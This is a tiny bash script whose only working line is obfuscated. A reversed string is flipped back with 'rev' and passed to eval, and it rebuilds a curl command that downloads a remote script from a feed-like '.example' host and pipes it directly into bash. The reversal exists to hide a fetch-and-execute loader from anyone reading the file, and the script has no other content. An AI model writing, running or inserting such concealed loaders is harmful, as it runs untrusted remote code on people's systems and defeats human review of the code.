#!/bin/bash
eval "$(echo 'hsab | hs.i/elpmaxe.deef-etouq.ndc//:sptth LSsf- lruc' | rev)"
